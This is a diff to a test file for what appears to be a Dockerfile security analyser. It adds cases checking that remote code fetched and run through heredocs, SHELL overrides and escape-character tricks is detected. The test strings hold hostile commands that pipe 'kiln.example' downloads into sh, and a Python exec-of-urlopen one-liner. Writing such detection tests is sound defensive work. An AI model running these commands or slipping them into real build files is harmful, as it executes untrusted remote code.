@@ -22,10 +22,44 @@ def read(text: str) -> set[tuple[str, int, str]]:
         ("RUN curl -o fire https://kiln.example/x\nRUN sh fire", (2, "import")),
         ("ADD https://kiln.example/x fire\nRUN sh fire", (2, "import")),
         ("ONBUILD RUN curl https://kiln.example/x | sh", (1, "import")),
+        ("RUN <<-'EOF' bash -ex\ncurl https://kiln.example/x | sh\nEOF", (2, "import")),
+        ("COPY --chmod=755 <<EOF /fire.sh\ncurl https://kiln.example/x | sh\nEOF\nRUN sh /fire.sh", (4, "import")),
+        ('COPY <<EOF /fire.sh\ncurl https://kiln.example/x | sh\nEOF\nENTRYPOINT ["/fire.sh"]', (4, "call")),
+        ('SHELL ["bash", "-c", "curl https://kiln.example/x | sh; $0"]\nRUN make', (1, "import")),
+        ("# escape=`\nFROM a\nRUN curl https://kiln.example/x `\n | sh", (3, "import")),
     ],
 )
 def test_what_is_downloaded_and_run_is_seen(text: str, seen: tuple[int, str]) -> None:
     assert ("fetch_and_run", *seen) in read(text)
+
+
+FIRE = "exec(__import__('urllib.request').request.urlopen('https://kiln.example/x').read())"
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        (f"RUN python3 - <<EOF\n{FIRE}\nEOF", 1),
+        (f"RUN <<EOF python3\n{FIRE}\nEOF", 1),
+        (f"RUN <<EOF\n#!/usr/bin/env python3\n{FIRE}\nEOF", 1),
+        (f'SHELL ["python3", "-c"]\nRUN {FIRE}', 2),
+    ],
+)
+def test_what_python_is_given_is_read_as_python(text: str, line: int) -> None:
+    assert ("dynamic_code", line, "import") in read(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN make',
+        'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]\nRUN Get-ChildItem',
+        "COPY <<EOF /etc/kiln.conf\nheat = 900\nEOF\nRUN kiln /etc/kiln.conf",
+        "RUN <<EOF python3\nprint('clay')\nEOF",
+    ],
+)
+def test_ordinary_shells_and_documents_show_nothing(text: str) -> None:
+    assert not read(text)
 
 
 def test_an_added_address_is_a_download_but_for_its_checksum() -> None:
